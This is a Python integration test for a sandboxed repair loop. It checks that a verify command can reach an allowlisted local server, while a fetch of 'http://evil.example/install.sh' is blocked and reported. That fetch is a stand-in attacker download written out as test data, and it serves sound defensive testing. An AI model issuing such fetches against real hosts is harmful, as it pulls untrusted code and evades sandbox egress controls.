"""A repair loop with a network allowlist, end to end (dev server, Postgres, bubblewrap, the
egress proxies): a verify command fetching from a listed local server passes, and one reaching
for an unlisted host fails with the blocked host named in its round's note and report."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from temporalio.client import Client
from typer.testing import CliRunner

from surfaces.cli.main import app
from tests.integration.loop_env import loop_world, project_with
from workflows.loop_types import Limits, LoopStatus, RoundVerdict, Sandbox, Step

FETCH = "python -c \"import urllib.request as u; print(u.urlopen('{url}', timeout=10).read().decode())\""


@pytest.fixture
async def registry() -> AsyncIterator[int]:
    """A package index stand-in on the host's 127.0.0.1."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nindex ok\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


async def test_a_loop_reaches_only_its_allowlist_and_a_blocked_host_is_in_the_round_note(
    client: Client, pg_url: str, tmp_path: Path, registry: int
) -> None:
    sandbox = Sandbox(network=[f"127.0.0.1:{registry}"])
    limits = Limits(total_rounds=1, command_timeout_s=60, stall_timeout_s=30, memory_mb=1024)
    async with loop_world(client, pg_url, tmp_path, project_with(tmp_path)) as world:
        allowed = world.spec(
            {Step.VERIFY: FETCH.format(url=f"http://127.0.0.1:{registry}/simple/")}, sandbox=sandbox
        )
        passing_id, passing = await world.run(allowed.model_copy(update={"limits": limits}))
        blocked = world.spec(
            {Step.VERIFY: FETCH.format(url="http://evil.example/install.sh")}, sandbox=sandbox
        )
        blocked_id, stopped = await world.run(blocked.model_copy(update={"limits": limits}))
        [passed_round] = await world.reports(passing_id)
        [blocked_round] = await world.reports(blocked_id)

    assert passing.status is LoopStatus.SUCCESS, passing.reason
    [verify] = passed_round.commands
    assert "index ok" in verify.tail and verify.egress is not None
    assert [(a.host, a.port) for a in verify.egress.allowed] == [("127.0.0.1", registry)]

    assert stopped.status is not LoopStatus.SUCCESS
    assert blocked_round.verdict is RoundVerdict.FAILED
    assert "verify blocked: evil.example:80 from `python -c` (not in the allowlist)" in blocked_round.note
    report = await asyncio.to_thread(
        CliRunner().invoke, app, ["loops", "report", blocked_id], env={"OPENLOOP_DATABASE_URL": pg_url}
    )
    assert report.exit_code == 0 and "evil.example:80" in report.output
